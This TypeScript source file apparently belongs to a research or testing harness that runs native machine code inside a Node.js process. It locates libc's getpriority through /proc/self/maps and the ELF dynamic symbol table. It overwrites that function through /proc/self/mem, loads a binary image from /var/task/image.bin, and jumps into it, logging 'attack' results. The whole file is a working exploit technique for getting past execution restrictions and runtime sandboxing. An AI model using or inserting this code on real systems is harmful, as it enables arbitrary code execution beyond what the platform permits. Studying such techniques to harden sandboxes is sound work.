/**
 * Machine code out of JavaScript, with nothing but node:fs and node:os: a process may write to its own memory through
 * /proc/self/mem, also where it may only execute. So a function of the C library is overwritten and then called.
 */
import { closeSync, openSync, readFileSync, writeSync } from 'node:fs';
import { getPriority } from 'node:os';

/** The function of the C library that `os.getPriority` calls. */
const VICTIM = 'getpriority';
/** As in native/attack.h. */
const IMAGE_ADDRESS = 0x2000_0000;
const RESULTS = '/tmp/attack-results';

interface Library {
  readonly path: string;
  /** Where its first byte is mapped. */
  readonly base: number;
}

function findLibc(): Library {
  for (const line of readFileSync('/proc/self/maps', 'utf8').split('\n')) {
    const [range = '', , offset = '', , , path = ''] = line.split(/\s+/);
    if (!path.endsWith('/libc.so.6') || Number.parseInt(offset, 16) !== 0) continue;
    // The path of a forked process is the one that its zygote saw; the file inside is the same.
    const inside = path.slice(path.indexOf('/lib/'));
    return { path: inside, base: Number.parseInt(range, 16) };
  }
  throw new Error('libc is not mapped');
}

/** The address of a function of a library: from the dynamic symbols of its 64-bit ELF file. */
function addressOf(symbol: string, { path, base }: Library): number {
  const elf = readFileSync(path);
  const u64 = (at: number): number => Number(elf.readBigUInt64LE(at));
  const sections = u64(0x28);
  const sectionBytes = elf.readUInt16LE(0x3a);
  const section = (index: number) => sections + index * sectionBytes;
  const SHT_DYNSYM = 11;
  for (let index = 0; index < elf.readUInt16LE(0x3c); index += 1) {
    if (elf.readUInt32LE(section(index) + 4) !== SHT_DYNSYM) continue;
    const from = u64(section(index) + 0x18);
    const names = u64(section(elf.readUInt32LE(section(index) + 0x28)) + 0x18);
    for (let at = from; at < from + u64(section(index) + 0x20); at += 24) {
      const name = names + elf.readUInt32LE(at);
      if (elf.toString('latin1', name, elf.indexOf(0, name)) === symbol) return base + u64(at + 8);
    }
  }
  throw new Error(`${symbol} is not in ${path}`);
}

/** Loads the image into this process, runs it, and gives what it wrote: one line for each attempt. */
export function runNative(): string {
  const image = readFileSync('/var/task/image.bin');
  // The hooks stand before the image: their lengths, then their bytes.
  const mapBytes = image.readUInt32LE(0);
  const jumpBytes = image.readUInt32LE(4);
  const map = image.subarray(8, 8 + mapBytes);
  const jump = image.subarray(8 + mapBytes, 8 + mapBytes + jumpBytes);
  const victim = addressOf(VICTIM, findLibc());
  const memory = openSync('/proc/self/mem', 'r+');
  try {
    writeSync(memory, map, 0, map.byteLength, victim);
    const mapped = getPriority(0);
    if (mapped !== IMAGE_ADDRESS) throw new Error(`the image has no room: ${mapped}`);
    writeSync(memory, image, 8 + mapBytes + jumpBytes, image.byteLength - 8 - mapBytes - jumpBytes, IMAGE_ADDRESS);
    writeSync(memory, jump, 0, jump.byteLength, victim);
  } finally {
    closeSync(memory);
  }
  getPriority(0);
  return readFileSync(RESULTS, 'utf8');
}
